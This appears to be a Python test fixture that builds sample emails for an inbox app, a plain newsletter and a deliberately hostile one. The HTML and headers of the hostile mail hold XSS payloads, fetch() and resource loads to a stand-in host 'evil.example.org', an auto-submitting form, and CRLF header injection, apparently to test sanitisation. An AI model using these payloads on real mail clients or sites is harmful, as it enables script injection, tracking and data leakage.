"""Sample mails for the inbox: a plain one, and one that tries everything."""

from __future__ import annotations

from email.message import EmailMessage

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)


def plain_mail(subject: str = "Lanterns, and 8 more papers new to you") -> bytes:
    """A mail with both parts."""
    mail = EmailMessage()
    mail["From"] = "Trending Papers <papers@example.org>"
    mail["To"] = "reader@example.org"
    mail["Subject"] = subject
    mail.set_content("1. Lanterns: Reading a Map One Street at a Time\n")
    mail.add_alternative(
        "<!doctype html><html><head><title>x</title><style>@media (prefers-color-scheme: dark) { h1 { color: #fff } }</style>"
        "</head><body><h1>Lanterns</h1><p><a href='https://example.org/1'>Read</a></p></body></html>",
        subtype="html",
    )
    return mail.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def mail_with_html(html: str) -> bytes:
    """A mail whose HTML part is ``html``."""
    return b"Subject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + html.encode()


EVIL = "http://evil.example.org"
HOSTILE_HTML = """<!doctype html><html><head>
<base href="http://evil.example.org/">
<meta http-equiv="refresh" content="0;url=http://evil.example.org/refresh">
<link rel="stylesheet" href="http://evil.example.org/style.css">
<link rel="prefetch" href="http://evil.example.org/prefetch">
<style>@import url(http://evil.example.org/import.css); body { background: url(http://evil.example.org/background.png) }
@font-face { font-family: f; src: url(http://evil.example.org/font.woff) } p { font-family: f }</style>
<script>parent.document.title = "taken"; document.title = "taken"; fetch("http://evil.example.org/fetch")</script>
</head><body onload="fetch('http://evil.example.org/onload')">
<p>Harmless words</p>
<img src="http://evil.example.org/pixel.png" onerror="document.body.textContent = 'taken'">
<iframe src="http://evil.example.org/frame"></iframe><object data="http://evil.example.org/object"></object>
<video src="http://evil.example.org/video" autoplay></video><svg onload="document.title = 'taken'"></svg>
<form action="http://evil.example.org/form"><button autofocus onfocus="this.form.submit()">x</button></form>
</body></html>"""

HOSTILE_MAIL = (
    b"From: =?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E?= <papers@example.org>\r\n"
    b"Subject: =?utf-8?q?=0D=0ABcc=3A_evil=40example.org?= <img src=x onerror=alert(1)> {{ 7*7 }} =?utf-8?b?4oCu?=flip\r\n"
    b"X-Nul: a\x00b\r\n"
    b"Content-Type: text/html; charset=utf-8\r\n\r\n" + HOSTILE_HTML.encode()
)
